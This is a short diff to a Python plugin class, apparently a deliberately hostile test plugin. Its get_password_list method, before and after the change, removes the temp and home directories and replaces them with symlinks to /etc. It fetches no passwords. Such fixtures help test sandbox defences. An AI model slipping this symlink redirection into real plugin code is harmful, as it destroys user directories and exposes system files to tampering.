@@ -7,9 +7,10 @@ class Plugin:
         self.configuration = configuration
 
     def get_password_list(self, cookie, session_cookie):
-        for name in ("TMPDIR", "HOME"):
-            os.rmdir(os.environ[name])
-            os.symlink("/etc", os.environ[name])
+        scratch = os.path.dirname(os.environ["HOME"])
+        for name in ("tmp", "home"):
+            os.rmdir(os.path.join(scratch, name))
+            os.symlink("/etc", os.path.join(scratch, name))
         return None
 
     def get_private_key_list(self):
